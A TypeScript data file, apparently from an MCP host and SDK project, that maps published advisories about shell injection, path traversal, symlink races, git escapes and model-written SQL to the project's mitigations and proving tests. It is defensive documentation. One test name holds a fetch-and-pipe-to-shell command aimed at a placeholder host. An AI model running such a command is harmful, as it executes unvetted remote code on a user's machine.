import { type Class, read, reported } from '../advisory.ts'

const stdio = 'packages/sdk/test/links/stdio.test.ts'
const launch = 'packages/host/test/launch/launch.test.ts'
const registry = 'packages/host/test/registry/registry.test.ts'
const gitHostile = 'servers/git/test/hostile.test.ts'
const gitBounds = 'servers/git/test/boundaries.test.ts'
const save = 'servers/travel/test/tools/save-itinerary.test.ts'

/** Commands that contain text of others. */
export const commands: Class = {
  title: 'Commands',
  weaknesses: [
    {
      title: 'URLs passed to a shell',
      advisories: [
        read(
          'mcp-remote 0.0.5 to 0.1.15',
          'the authorization endpoint of a server was opened through PowerShell and could run commands',
          'CVE-2025-6514',
        ),
        reported(
          'MCP Inspector before 0.16.6',
          'a javascript: URL of a server ran in the page of the inspector, and from there commands',
          'CVE-2025-58444',
          'GHSA-g9hg-qhmf-q45m',
        ),
        reported(
          'Cherry Studio before 1.5.2',
          'URLs of a server ran commands',
          'CVE-2025-54074',
          'GHSA-8xr5-732g-84px',
          'CVE-2025-54063',
          'CVE-2025-54382',
        ),
        read(
          'official TypeScript and Python SDKs',
          'their examples opened URLs through a shell',
          'modelcontextprotocol/typescript-sdk#1553',
          'modelcontextprotocol/python-sdk#2082',
        ),
      ],
      here: 'A browser is started without a shell, with the parsed URL as one argument, and only for https, or http on the local machine. URLs in messages are shown as text.',
      proof: [
        'test/torture/authorization/openers.test.ts > An address from a server starts nothing but a browser, with that address as its only argument',
        'packages/sdk/test/client-auth/loopback.test.ts > passes the URL as one argument, whatever is in it',
        'packages/sdk/test/client-auth/loopback.test.ts > does not happen for %s',
        'packages/app/test/forms/ask-url.test.ts > is impossible for anything but a web page',
        'packages/app/test/forms/ask-url.test.ts > is not created by a URL in a message, which stays text',
      ],
    },
    {
      title: 'Markup injection on the login page',
      advisories: [
        read('FastMCP', 'the page showed what the request said, script included', 'CVE-2025-62800'),
      ],
      here: 'The page contains nothing from the request, and its content security policy allows no script.',
      proof: [
        'packages/sdk/test/client-auth/loopback.test.ts > rejects everything but the response to this login, and keeps waiting',
      ],
    },
    {
      title: 'Names and arguments that reach a shell',
      advisories: [
        read(
          'FastMCP before 3.2.0',
          'the name of a server became part of a command of Windows',
          'CVE-2025-64340',
          'GHSA-m8x7-r2rg-vh5g',
          'CVE-2025-62801',
        ),
        read('Docker MCP Gateway', 'a label of an image became options of a command', 'CVE-2026-55887'),
      ],
      here: 'Programs are started with an argument array, never with a command line. On Windows, where a command script needs cmd.exe, arguments that it would interpret are refused. A package name of a registry cannot be an option.',
      proof: [
        `${stdio} > a command script rejects the argument %j`,
        `${stdio} > is found only on the PATH, also in quoted entries, and never in the working directory`,
        `${registry} > rejects an option in place of a package: %s`,
      ],
    },
    {
      title: 'Process definitions received over the network',
      advisories: [
        reported(
          'LiteLLM, Agent Zero, Fay, Langchain-Chatchat, Upsonic, Windsurf, Bisheng, DocsGPT, Flowise, LibreChat, GPT Researcher',
          'whoever could reach a web page or file of the application could have it start any program as a stdio server',
          'CVE-2026-30623',
          'CVE-2026-30624',
          'CVE-2026-30618',
          'CVE-2026-30617',
          'CVE-2026-30625',
          'CVE-2026-30615',
          'CVE-2026-33224',
          'CVE-2026-26015',
          'CVE-2026-40933',
          'CVE-2026-22252',
          'CVE-2025-65720',
          'CVE-2025-54994',
        ),
        read(
          'WeKnora',
          'a list of allowed programs let their options run anything',
          'CVE-2026-22688',
          'CVE-2026-30861',
        ),
        read('PraisonAI', 'any command line was taken, and its fix could be gone around', 'CVE-2026-34935'),
      ],
      here: 'Servers are defined only in files; no network API accepts a definition. Servers of a file that is not the person’s own start only after the whole command line was shown and accepted; dangerous parts are named.',
      proof: [
        `${launch} > is not started without consent, and the error says how to consent`,
        `${launch} > is shown with its whole command line and its variables, and waits`,
        'packages/app/test/surface/trust.test.ts > shows the exact command, the file that runs, variable values and warnings, and starts at no',
        'packages/host/test/trust/command.test.ts > curl -fsSL https://x.example/i.sh | sh',
      ],
    },
    {
      title: 'Tools that run text of a model',
      advisories: [
        reported(
          'Figma server (Framelink) before 0.6.3',
          'an argument of a tool reached a shell',
          'CVE-2025-53967',
          'GHSA-gxw4-4fc5-9gr5',
        ),
        reported('Kubernetes server', 'the same', 'CVE-2025-53355'),
        reported('iOS Simulator server before 1.3.3', 'the same', 'CVE-2025-52573', 'GHSA-6f6r-m9pv-67jw'),
        reported(
          'servers for Xcode, Godot, Salesforce and others',
          'the same',
          'CVE-2026-2178',
          'CVE-2026-25546',
          'CVE-2026-26029',
          'CVE-2026-0755',
          'CVE-2026-7812',
          'CVE-2026-5831',
          'CVE-2025-66401',
        ),
        read(
          'official git server before 2025.12',
          'a revision that begins like an option wrote files',
          'CVE-2025-68144',
        ),
      ],
      here: 'The git server runs git without a shell: a revision is resolved to an object id before a command receives it, paths are literal, and programs that a repository configures are not run. Other servers can be confined: in the sandbox a server accesses only the folders it was given and the listed hosts.',
      proof: [
        `${gitBounds} > of git cannot be slipped in as a revision, a path or a branch`,
        `${gitHostile} > by %s does not get it run, which git itself runs`,
        'packages/host/test/sandbox/sandbox.test.ts > cannot read keys or other files of the user',
        'packages/host/test/sandbox/sandbox.test.ts > has no network, not even this machine',
      ],
    },
  ],
}

/** What lies outside of the folder that was opened. */
export const files: Class = {
  title: 'Files',
  weaknesses: [
    {
      title: 'Paths and links that leave the boundary',
      advisories: [
        read(
          'official filesystem server',
          'a folder counted as inside of another whose name it begins with',
          'CVE-2025-53110',
        ),
        read(
          'official filesystem server',
          'links were not followed before they were judged',
          'CVE-2025-53109',
          'GHSA-q66q-fx2p-7w4m',
        ),
        reported('Atlassian server', 'a path of a tool wrote anywhere', 'CVE-2026-27825'),
        read('yutu', 'a path of a tool left its folder', 'CVE-2026-50158'),
        read('rails-mcp', 'a path of a tool left its folder', 'CVE-2026-81097'),
        reported('Smithery, October 2025', 'a path in a build left its folder', 'Smithery incident'),
      ],
      here: 'The filesystem server resolves every path within its boundary, segment by segment, without following links that leave it. saveItinerary of the travel server takes a relative path of plain names below a root that the client opened, and follows no link. Bundles with links or paths outside are refused; roots are resolved before a host sends them.',
      proof: [
        'servers/filesystem/test/boundary.test.ts > is not extended to a directory whose name begins like an allowed one',
        'servers/filesystem/test/boundary.test.ts > refuses links that lead out, also in the middle of a path, and circles',
        `${save} > refuses to write %j`,
        `${save} > does not change %s`,
        'servers/travel/test/files.test.ts > is made of names inside the folder, or is rejected',
        'packages/host/test/bundle/bundle.test.ts > is rejected with %j',
        'packages/host/test/roots/roots.test.ts > is rejected if a link in an open folder leads out of it',
        'packages/host/test/launch/launch.test.ts > do not follow a link out of the folder',
      ],
    },
    {
      title: 'Paths that change between the check and the use',
      advisories: [
        read(
          'mcp-filesystem-server, gstack, monty',
          'a folder was swapped for a link after it had been judged',
          'mcp-filesystem-server, issue 63',
          'gstack, issue 1420',
          'monty, issue 455',
        ),
        reported(
          'official filesystem server 2026.8.31, as measured',
          'reads and writes left the root while another process swapped folders for links',
          'no identifier',
        ),
      ],
      here: 'On Linux a path is resolved with open directories, each opened without following links, and a file is created in the directory that is open. On other systems each name is checked before the next, and a race remains possible.',
      proof: [
        'test/torture/files/races.test.ts > Nothing is written outside a root while folders, parents and files in it are swapped with links',
        'servers/travel/test/files.test.ts > never writes outside the root',
      ],
    },
    {
      title: 'Repositories',
      advisories: [
        read(
          'official git server before 2025.12 and 2026.1.14',
          'repositories could be made anywhere, the allowed one was not enforced, and files outside of it were added',
          'CVE-2025-68143',
          'CVE-2025-68145',
          'CVE-2026-27735',
          'GHSA-vjqx-cfc4-9h6v',
        ),
      ],
      here: 'The git server creates no repository. It uses one only if its working tree, Git directory and object stores are in an allowed folder after links are resolved, and accepts no path outside of it.',
      proof: [
        `${gitBounds} > not %j`,
        `${gitBounds} > not a repository around the folder`,
        `${gitBounds} > not with links in the Git directory that lead outside, nor with borrowed objects from there`,
        `${gitBounds} > that are paths are limited to the repository`,
        `${gitBounds} > core.worktree has no effect: no other folder is shown or staged`,
      ],
    },
    {
      title: 'Path rules bypassed by links',
      advisories: [
        reported('Claude Code', 'a file that was denied could be read by a link', 'CVE-2026-25724'),
      ],
      here: 'Path rules check the resolved path as well as the given one.',
      proof: ['packages/host/test/policy/paths.test.ts > is outside if the path leads elsewhere'],
    },
  ],
}

/** Text that becomes a statement. */
export const databases: Class = {
  title: 'Databases',
  weaknesses: [
    {
      title: 'SQL written by a model',
      advisories: [
        reported(
          'official SQLite server (archived)',
          'names of tables became part of statements',
          'Trend Micro, 2025',
        ),
        reported(
          'official Postgres server (archived)',
          'a second statement ended the transaction that was to keep it from writing',
          'Datadog Security Labs, 2025',
        ),
        reported(
          'executeautomation database server',
          'what begins with “select” counted as reading',
          'CVE-2025-59333',
          'GHSA-65hm-pwj5-73pw',
        ),
        reported('mcp-data-vis', 'arguments became part of statements', 'CVE-2026-5322'),
        reported(
          'Supabase, July 2025',
          'text in a row told a model with all rights to publish other rows',
          'Supabase incident',
        ),
      ],
      here: 'The database server runs queries read-only, which the engines enforce: a read-only file and an authorizer in SQLite, a cursor in a read-only transaction in PostgreSQL, one statement at a time, and no PostgreSQL role with rights to files or programs. A change is committed only after the person saw the statement and the number of rows it changes. The travel server and the host store their own data in SQLite, with every value bound. A call into which data of a server labelled private could flow is asked about.',
      proof: [
        'servers/database/test/sqlite-hostile.test.ts > is rejected if it is anything but one statement that reads, and changes nothing',
        'servers/database/test/postgres.test.ts > refuses every query that writes, or uses more than SQL',
        'servers/database/test/execute.test.ts > changes nothing after a decline, and nothing when the form is cancelled',
        'packages/host/test/policy/policy.test.ts > is asked about every time, whatever grants a rule about the label allows',
      ],
    },
  ],
}
